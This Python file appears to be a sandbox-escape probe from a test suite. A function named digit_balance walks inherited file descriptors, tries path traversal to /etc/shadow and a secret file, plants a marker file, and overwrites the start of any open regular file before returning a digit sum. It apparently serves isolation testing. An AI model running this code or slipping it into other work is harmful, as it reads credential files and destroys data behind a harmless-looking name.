"""Uses every descriptor it inherited: reads, writes, and reopens what lies behind it."""

import os
import stat


def digit_balance(number):
    found = 0
    for fd in range(3, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            for name in ("../../../../../../etc/shadow", ".attack-suite-secret"):
                try:
                    os.close(os.open(name, os.O_RDONLY, dir_fd=fd))
                    found += 1
                except OSError:
                    pass
            try:
                os.close(os.open("attack-suite-by-descriptor", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
            except OSError:
                pass
        elif stat.S_ISREG(mode):
            try:
                os.pwrite(fd, b"attack-suite", 0)
                found += 1
            except OSError:
                pass
    if not found:
        return None
    digits = [int(d) for d in reversed(str(number))]
    return sum(digits[0::2]) - sum(digits[1::2])
